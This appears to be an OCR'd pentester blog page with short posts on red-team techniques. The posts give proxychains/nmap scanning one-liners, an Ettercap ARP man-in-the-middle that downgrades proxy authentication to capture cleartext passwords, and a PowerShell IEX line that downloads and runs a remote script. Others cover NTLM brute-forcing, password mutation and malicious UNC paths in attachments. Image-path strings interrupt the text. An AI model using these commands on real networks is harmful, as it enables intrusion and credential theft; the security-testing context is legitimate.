Hack Whack and Smack

CVE-2018-5240 – Symantec Management Agent (Altiris) Privilege Escalation

In case you missed it, I found a zero day vulnerability in Altiris which allows a low level user to elevate privileges to SYSTEM on any host governed by Altiris.

For more information on the vulnerability check out the Nettitude labs post below.


Symantec have released some notes on the vulnerability here:


Speeding up Proxychains with Nmap / Xargs

So for a while now I’ve wanted a way to better use Nmap with proxychains and essentially I’veresulted in a fairly simple one-liner that has worked for me for a while now on basic port scanning. It’s a trivial concept but really does speed up the processwith no negative affect from what I can tell. Obviously you have to be careful on how many threads you permit with Xargs but other than that its pretty straight forward.

A coupleof options that you may consider when pivoting with proxychains is possibly multiple hosts with a low number of ports or the alternative being a large amount of ports against one host. Depending on your usage may depend on how you use it because you always have to remember how stealthy you want to be before doing this type of attack. Ifyou’re using this on an internal pentest then you may not worry so much about stealth, but if you’re running this on a Red Team engagement you will want to manipulate the Nmap flags accordingly.

Using the traditional way of running proxychains with Nmap it took 193.62 seconds to finish. An example of this usage has been shown below:

proxychains nmap -p 1-1000 -sT -Pn --open -n -T4 --min-parallelism 100 --min-rate 1 --oG proxychains_nmap_old --append-output <IP Address>

Bringing Xargs into the loop with a thread count of 50 dramatically improves the results and only took 9 seconds to complete. An example of this usage has been shown below:

seq 1 1000 | xargs -P 50 -I{} proxychains nmap -p {} -sT -Pn --open -n -T4 --min-parallelism 100 --min-rate 1 --oG proxychains_nmap --append-output <IP Address>

If you want to run multiple ports or port ranges against multiple hosts you could use the following alternative:

seq 1 254 | xargs -P 50 -I{} proxychains nmap -p 80,443,3389,445,22 -sT -Pn --open -n -T4 --min-parallelism 100 --min-rate 1 --oG proxychains_nmap --append-output 192.168.1.{}

Then grep the output for open ports:


Clear Text Proxy Auth = Passwords

Quick blog, in response to a conversation I had. Where I was informed that this would be a cool thing to share. Recently, I was doing a simulated attack, playing the part of an individual who had gained access to a customer’s facilities. This customer had the usual stuff such as LLMNR spoofing etc which was good for getting hashes, but I needed access quickly to exfiltrate as much data as possible prior to detection. Carrying out a simple man in the middle against some targeted networks, I say targeted because the company deployed small department/functional VLANs, so it literally meant moving desks to find more victims…. I saw proxy authentication forcompany users as they were browsing the internet. The response to every request was a HTTP 407 proxy authenticate, providing the options to negotiate NTLM or BASIC. The users were all on the domain and NTLM was taking precedence. Therefore, I would see the hash being transmitted in the response. Great more hashes…..

That was when I though wait a minute…I shouldn’t see any of this traffic. It’s over HTTP!!!!!! I can modify the proxy authentication options in transit.

I created the following Ettercap filter as shown below and changed everything to BASIC. Obviously with BASIC authentication the user is going to be asked for their credentials. One of my colleague actually said no users will put there details in as its too suspicious…..and that was when the Base64 encoded username and password appeared on my Wireshark screen for an individual working in the Cyber Crime Team.

The filter:


To compile and runthe filter use the following syntax:

etterfilter etter.filter.proxy -o proxy2.ef
ettercap -T -q -F proxy2.ef -M ARP /Target-IP// ///

Service-Perms in Powershell

Updated my Service-Perms.exe to Powershell, grab a copy here:


Usage direct from the Internet within Powershell:

IEX (new-object system.net.webclient).downloadstring("https://raw.githubusercontent.com/benpturner/h00k/master/powershell/Service-Perms.ps1"); Get-ServicePermsOutputs an HTML


PoshC2 – Powershell C2

A new tool written by @benpturner (me) and @davehardy20!PoshC2 is a proxy aware C2 framework written completely in PowerShell to aid penetration testers with redteaming, post-exploitation and lateral movement. The tools and modules were developed off the back of our successful PowerShell sessions and payload types for the Metasploit Framework. PowerShell was chosen as the base language as it provides all of the functionality and rich features required without needing to introduce multiple languages to the framework.

More information on:




Password Generator – L337’r

Password Generation Tool

For most organisations one of the most prevalent security concerns remains users selection of secure passwords. Even when restricted through a reasonable password policy, users seem to continue to select passwords with some relevance to the geography of the area, the name of the business or popular sporting/hobbyist interests specific to the region.


Mutation through substitution is a common password generation technique. This is the process of maintaining a word of relevance but increasing the entropy by substituting letters for numbers or special characters. An example of this would be taking the word ‘password’ and through common substation routines, transitioning the word to be ‘Pa55w0rd’. This is something that is far to commonly seen during engagements, the other interesting factor is that the mutated version of the password meets Microsoft’s complexity guidelines as it details 3of the 4 main changes a password should include (uppercase, lowercase, number and special character).

Microsoft Guidelines – https://technet.microsoft.com/en-gb/library/cc786468%28v=ws.10%29.aspx

The Tool

In combination with a number of scenarios encountered during engagements, we have created a tool that generates a mutated password list from one word. The idea behind the tool was to keep the code simplistic to allow easy on site modifications as further details about the company password policy become clear.

The tool has three main workflows:

Substitution Through Miniature Dictionary (limited substitution) –mini

The Miniature dictionary includes a subset of the maximum dictionary and focuses on swapping only common numbers and symbols. While also flipping the first character between uppercase and lowercase. This is specific to the way most users select passwords, utilising a uppercase character as the first letter in their password.

Substitution Through Maximum Dictionary (increased substitution) –maxi

The Maximum dictionary includes swapping all characters between uppercase and lowercase and swaps letters for common numbers and symbols.

Replace functionality (limited to special characters) –replace

The replace functionality is also looped into the two other dictionary functions but is a function in its own right. The replace functionality was specific to a recent engagement where a password was pulled from memory but had a special characterthat was of an unknown character set. The password included a square character that was unusable. Crunch was initially used to create a wordlist that took the main word and applied substitution of all common special characters in place of the square. Therefore it was obvious from that point that the replace functionality should make it into this tool.

Additional sub mutation routines

–range – The range option is used to add numbers (of a range) to the end of each password.

–suffix – The suffix option is used to append a suffix to the end of each password. This is common in organisations that utilise either dates or suffixes within passwords.It was noted on a previous engagements that a service account password would always end with ‘_svc’.

–order – The order option allows the specification of an order of application for the three additional functions (–range, –replace and –suffix). Therefore you can specify a password that replaces a end character with all special characters, then includes a range of 0-10 andfinally adds a suffix. The default order of the order option is dictionary, replace, range and suffix (drns).


While this is not the first tool that provides mutation capability, the idea was that it is easy to use, flexible and open to on the fly changes as required. We like to think of it as the square wheel of password generation tools – so without further ado, a basic demo:

We even created a help page:

leetme - help

The following example shows a limited output of what you can expect the tool to generate:

python leetme.py –mini –range 3 password


leetme - example

The script can be downloaded on from the tools page TOOLS

Also a wee shout out to modulo who helped write the script.

CVE2015-2342 and Some other stuff

Recently, well a while a go I had some vulnerabilities published. These were published elsewhere and due to extreme laziness I decided not to publish it here. Anyway, thought I would stick links in here to point back to the vulns.


2 Others That we released (bit more low key)

Mitel CCMWeb Unauthenticated Local File Inclusion7 Elements

Mitel CCMWeb OpenRedirect7 Elements

There are some others too but there not released yet, I will try to add them quicker this time around ;-P

Brute-forcing Microsoft Lync via NTLMOk, so there is good reason why Lync should not be accessible over the Internet similarly to any single factor system. BRUTE-FORCE will usually prevail!!!!

I installed burp’s certificate on my Windows host and attempted to login from Lync (From this I was an HTTP NTLM Login request to https://lyncwebact.customer.com/WebTicket/WebTicketService.svc).

NTLM like many other services is made fairly simple to brute-force or attempt one password guess against many accounts. I have used hydra for this once before but a colleague recently wrote a pretty decent python script that makes it even easier and you don’t need to know all the switches etc (https://github.com/strawp/random-scripts/blob/master/ntlm-botherer.py).

Anyway, to make obtaining the NTLM url simple I wrote a quick python script that located the company DNS records for lyncdiscover and then finds the NTLM url as shown below:



Parsing Nessus to find Java Remote Class Loading

On every internal pentest I perform I always find myself searching through lots of Nessus findings to actually get the output I want, so I wrote a script. This script is piggy backed of a cool python class called dotnessus_v2 parser (http://code.google.com/p/pynessus/). Basically my script takes a Nessus file as the input and parses the RMI Registry and RMI Object detection plugins and creates you a nice easy Metasploit RC file that runs the auxiliary module against all affected hosts and portswithout any user interaction, allowing you to crack on with other stuff while you wait for positive results, e.g. Pwnable services that allow remote class loading.

The reason I did this was because in a standard /24 cidr range your likely to get around 30-50 ports on 20 or so hosts if the environment if fairly populated. This speeds the pwnage process up ten fold. In addition to this it will also create you a webhosts.txt file that lists all the HTTP/HTTPS services that Nessus finds so that you can later run more scripts against these, e.g. I often use my screenshot script to take a screendump of all available web services or nikto each host etc.

Anyway, here is the script in action:



Malicious UNC Paths (SMB) / Bad Egress/ No-Split VPN

When attempting social engineering or red teaming engagements I often choose to embed various HTTP/UNC paths inside an attachment, e.g. Word/Excel/PDF. The best thing about embedding this malicious URL is that it does not warn the user of any external content loading. You can also do this directly inside an email but the user will get warned of loading external content, especially insideoutlook which is the most widely used email client in a corporate environment. Other vendor settings do vary so it’s worth doing reconnaissance on your target before aiming to penetrate their external defenses.

Email reconnaissance can be done via embedding a simple HTTP request or even viewing email headers from an automated response or out-of-office reply.

The reason this is also quite interesting to me is that companies often have great egress controls inside their organisation, but when working remotely in a coffee shop, working from home or over a smartphone tether the employees are free to connect without any form of security or logging from a perimeter firewall perspective. Companies should deploy and enforce (via technical controls) no-split VPN connections in order to control the traffic flow between their own assets. This not only helps maintain a controlled logging and monitoring solution but also keeps enforced the integrity of traffic to and from the device. It should not be left the employees home firewall or in most cases a default BT Homehub router.


